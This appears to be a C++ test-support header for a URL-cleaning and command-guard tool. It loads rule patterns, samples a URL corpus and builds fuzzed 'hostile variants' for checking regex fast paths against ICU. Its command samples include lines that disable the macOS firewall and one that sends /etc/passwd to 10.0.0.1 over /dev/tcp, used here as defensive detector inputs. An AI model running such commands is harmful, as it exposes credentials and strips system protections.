// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

// What the regex fast paths are checked against ICU on: the shipped rule patterns, a sample of the
// benchmark corpus, Command Guard's patterns and commands, and hostile variants of any of them.

#include "tests/support/Fixtures.h"

#include <nlohmann/json.hpp>

#include <cctype>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <random>
#include <set>
#include <string>
#include <string_view>
#include <vector>

namespace tessaril::testing {

inline const std::string kBundle = TESSARIL_SOURCE_DIR "/resources/Tessaril_TessarilCore.bundle/";

struct Patterns {
    std::vector<std::string> links;     // host patterns, exceptions, raw rules, redirections
    std::vector<std::string> names;     // parameter rules, anchored as the rules engine anchors them
    std::vector<std::string> captures;  // redirections and raw rules: the ones matched for their ranges
};

inline Patterns shippedLinkRules() {
    Patterns patterns;
    for (const char* file : {"data.min.json", "tessaril-supplementary.json"}) {
        const auto text = readFile(kBundle + file);
        if (text.empty()) return {};
        const auto json = nlohmann::json::parse(text);
        for (const auto& [name, provider] : json.at("providers").items()) {
            patterns.links.push_back(provider.at("urlPattern").get<std::string>());
            for (const char* key : {"exceptions", "rawRules", "redirections"}) {
                for (const auto& pattern : provider.value(key, nlohmann::json::array())) {
                    patterns.links.push_back(pattern.get<std::string>());
                    if (std::string_view(key) != "exceptions") patterns.captures.push_back(patterns.links.back());
                }
            }
            for (const char* key : {"rules", "referralMarketing"}) {
                for (const auto& pattern : provider.value(key, nlohmann::json::array()))
                    patterns.names.push_back("^" + pattern.get<std::string>() + "$");
            }
        }
    }
    return patterns;
}

// Two variants of every `stride`th short text: about a third of the letters upper-cased, then one
// character dropped, doubled or replaced. Long texts are left alone: ICU's time on them grows with
// the square of their length for the many patterns that start with ".*".
inline void addHostileVariants(std::vector<std::string>& texts, std::mt19937& random, std::size_t stride = 1) {
    const std::size_t count = texts.size();
    for (std::size_t i = 0; i < count; i += stride) {
        if (texts[i].empty() || texts[i].size() > 300) continue;
        std::string mixed = texts[i];
        for (char& c : mixed) {
            if (random() % 3 == 0) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
        }
        std::string edited = mixed;
        const auto at = random() % edited.size();
        const auto edit = random() % 3;
        if (edit == 0) edited.erase(at, 1);
        if (edit == 1) edited.insert(at, 1, edited[at]);
        if (edit == 2) edited[at] = static_cast<char>(' ' + random() % 95);
        texts.push_back(std::move(mixed));
        texts.push_back(std::move(edited));
    }
}

// Every 100th line of the benchmark corpus, and the query parameter names found in them.
struct CorpusSample {
    std::vector<std::string> lines;
    std::vector<std::string> names;
};

inline const CorpusSample& corpusSample() {
    static const CorpusSample sample = [] {
        CorpusSample result;
        const char* shared = std::getenv("TESSARIL_SHARED_DIR");
        std::ifstream corpus(std::string(shared != nullptr ? shared : TESSARIL_SHARED_DIR) + "/bench/urls-200k.txt");
        std::set<std::string> names;
        std::string line;
        for (std::size_t number = 0; std::getline(corpus, line); ++number) {
            if (number % 100 != 0) continue;
            result.lines.push_back(line);
            for (auto at = line.find('?'); at != std::string::npos; at = line.find('&', at + 1))
                names.insert(line.substr(at + 1, line.find_first_of("=&", at + 1) - at - 1));
        }
        result.names.assign(names.begin(), names.end());
        return result;
    }();
    return sample;
}

struct CommandSample {
    std::vector<std::string> patterns;
    std::vector<std::string> commands;
};

// Command Guard's shipped patterns, and command texts with their hostile variants; empty when the
// rules are not found.
inline CommandSample commandGuardSample() {
    CommandSample sample;
    const auto text = readFile(kBundle + "command-guard-rules.json");
    if (text.empty()) return {};
    const auto json = nlohmann::json::parse(text);
    for (const auto& rule : json.at("rules"))
        sample.patterns.push_back(rule.at("pattern").get<std::string>());
    sample.commands = {
        "sudo /usr/libexec/ApplicationFirewall/socketfilterfw --setglobalstate off",
        "defaults write com.apple.alf globalstate -int 0",
        "cat /etc/passwd > /dev/tcp/10.0.0.1/4444",
        "__EventFilter CommandLineEventConsumer",
    };
    // The Command Guard fuzzer's seeds that are command texts (first byte 0-2, then the text).
    for (const auto& entry : std::filesystem::directory_iterator(TESSARIL_SOURCE_DIR "/fuzz/corpus/command_guard")) {
        const auto seed = readFile(entry.path());
        if (!seed.empty() && static_cast<unsigned char>(seed[0]) <= 2) sample.commands.push_back(seed.substr(1));
    }
    std::mt19937 random(11);
    addHostileVariants(sample.commands, random);
    return sample;
}

}  // namespace tessaril::testing
